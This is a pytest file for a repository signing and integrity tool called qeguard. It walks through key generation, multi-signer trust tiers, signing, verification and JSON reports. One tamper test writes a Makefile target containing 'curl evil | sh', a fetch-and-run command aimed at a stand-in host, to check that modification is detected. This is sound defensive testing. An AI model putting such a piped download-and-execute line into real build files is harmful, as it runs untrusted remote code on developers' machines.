"""The issue's walkthrough, command by command, in a scratch git repository."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from collections.abc import Callable
from importlib import resources
from pathlib import Path
from typing import Any

import jsonschema  # type: ignore[import-untyped]
import pytest

FILES: dict[str, str | bytes] = {
    "pyproject.toml": "[project]\nname = 'qemlflow'\n",
    "requirements.txt": "numpy==2.0.0\n",
    "src/qemlflow/__init__.py": "__version__ = '1.0'\n",
    "src/qemlflow/core/models.py": "class Model:\n    pass\n",
    "src/qemlflow/utils/io.py": "def load():\n    return None\n",
    "tests/test_models.py": "def test_nothing():\n    assert True\n",
    "Makefile": "test:\n\tpytest\n",
    ".github/workflows/ci.yml": "on: push\n",
    "docs/index.md": "# QeMLflow\n",
    "README.md": "# QeMLflow\n",
}


def _console_script() -> str:
    script = Path(sys.executable).with_name("qeguard")
    assert script.is_file(), "the qeguard console script is not installed (pip install .)"
    return str(script)


def test_walkthrough(
    repo: Path,
    run_cli: Any,
    chdir: Callable[[Path], None],
    git: Any,
    write: Callable[[Path, dict[str, str | bytes]], None],
) -> None:
    write(repo, FILES)
    chdir(repo)  # exactly as typed in the issue: no -C, paths relative to the repository

    r = run_cli("init", "--preset", "qemlflow")
    assert r.code == 0, r.err
    assert "core (threshold 2, block)" in r.out and "outer (threshold 0, warn)" in r.out

    # A private key written into the work tree would be one `git add -A` from a commit.
    r = run_cli("keygen", "--name", "alice", "--out", "alice.key")
    assert r.code == 2 and "not ignored" in r.err and "--force" in r.err
    assert not Path("alice.key").exists()

    keys = repo.parent / "keys"  # outside the repository
    for name in ("alice", "bob"):
        r = run_cli("keygen", "--name", name, "--out", keys / f"{name}.key")
        assert r.code == 0, r.err
        # keygen prints the public line, identical to the .pub file it wrote.
        line = r.out.strip()
        assert line.startswith("ssh-ed25519 ") and line.endswith(f" {name}")
        assert (keys / f"{name}.key.pub").read_text().strip() == line
        assert stat.S_IMODE((keys / f"{name}.key").stat().st_mode) == 0o600
        r = run_cli("trust", "add", name, keys / f"{name}.key.pub", "--tiers", "core,middle")
        assert r.code == 0, r.err

    r = run_cli("sign", "--key", keys / "alice.key")
    assert r.code == 0, r.err
    assert "core: new payload (sequence 1" in r.out
    # Core needs two signers: with alice alone verify reports the shortfall.
    r = run_cli("verify")
    assert "QG-SIG-THRESHOLD" in r.out

    r = run_cli("sign", "--key", keys / "bob.key")
    assert r.code == 0, r.err
    assert "core: co-signed (sequence 1" in r.out and "middle: co-signed" in r.out

    r = run_cli("verify")
    assert r.code == 0, r.out + r.err
    assert "tier core:" in r.out and "threshold 2: 2 signed (alice, bob), met" in r.out

    r = run_cli("verify", "--format", "json", "--output", "report.json")
    assert r.code == 0, r.err
    report = json.loads(Path("report.json").read_text())
    schema = json.loads(
        (resources.files("qeguard.render") / "report.schema.json").read_text(encoding="utf-8")
    )
    jsonschema.validate(report, schema)
    assert report["tool"]["name"] == "qeguard"
    assert report["command"] == "verify" and report["verdict"] == "pass"
    assert report["fail_on"] == "medium"
    tiers = {t["name"]: t for t in report["tiers"]}
    assert set(tiers) == {"core", "middle", "outer"}
    assert sorted(tiers["core"]["signers"]) == ["alice", "bob"]
    assert tiers["core"]["threshold"] == 2
    assert [f["rule"] for f in report["findings"]] == ["QG-TRUST-SOURCE"]

    # Commit, so trust comes from HEAD, then tamper: every finding has rule, severity,
    # path, tier and fix.
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "protect")
    Path("src/qemlflow/core/models.py").write_text("class Model:\n    evil = True\n")
    Path("src/qemlflow/utils/new.py").write_text("x = 1\n")
    r = run_cli("verify", "--format", "json", "--output", "report.json")
    assert r.code == 1
    findings = json.loads(Path("report.json").read_text())["findings"]
    by_rule = {f["rule"]: f for f in findings}
    assert set(by_rule) == {"QG-INT-MODIFIED", "QG-INT-ADDED"}
    mod = by_rule["QG-INT-MODIFIED"]
    assert mod["severity"] == "high" and mod["tier"] == "core"
    assert mod["location"]["path"] == "src/qemlflow/core/models.py"
    assert "qeguard" in mod["fix"]
    assert by_rule["QG-INT-ADDED"]["tier"] == "middle"


def test_installed_console_script_exit_codes(
    repo: Path, keypair: Any, git: Any, write: Callable[[Path, dict[str, str | bytes]], None]
) -> None:
    write(repo, FILES)
    qeguard = _console_script()
    env = {**os.environ, "NO_COLOR": "1"}

    def run(*args: str | Path) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [qeguard, *map(str, args)],
            cwd=repo,
            env=env,
            text=True,
            capture_output=True,
            timeout=120,
        )

    assert run("init", "--preset", "qemlflow").returncode == 0
    keys = [keypair("alice"), keypair("bob")]
    for k in keys:
        assert run("trust", "add", k.name, k.public, "--tiers", "core,middle").returncode == 0
    for k in keys:
        p = run("sign", "--key", k.private)
        assert p.returncode == 0, p.stderr
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "protect")

    p = run("verify")
    assert p.returncode == 0, p.stdout + p.stderr
    (repo / "Makefile").write_text("test:\n\tcurl evil | sh\n")
    p = run("verify")
    assert p.returncode == 1 and "QG-INT-MODIFIED" in p.stdout
    git(repo, "checkout", "--", "Makefile")
    assert run("verify").returncode == 0

    p = run("-C", repo, "verify", "--format", "json")
    assert p.returncode == 0 and json.loads(p.stdout)["verdict"] == "pass"

    p = run("sign", "--key", repo / "no-such.key")
    assert p.returncode == 2 and "no-such.key" in p.stderr and "Traceback" not in p.stderr
    p = run("frobnicate")
    assert p.returncode == 2

    (repo / ".qeguard/policy.toml").write_text('extends = "qemlflow"\n[[tiers]\n')
    git(repo, "commit", "-q", "-am", "broken policy")
    p = run("verify")
    assert p.returncode == 2
    assert ".qeguard/policy.toml" in p.stderr and "line 2" in p.stderr
    assert "Traceback" not in p.stderr


@pytest.mark.parametrize("args", [["--help"], ["verify", "--help"], ["--version"]])
def test_help_and_version_exit_0(run_cli: Any, args: list[str]) -> None:
    assert run_cli(*args).code == 0
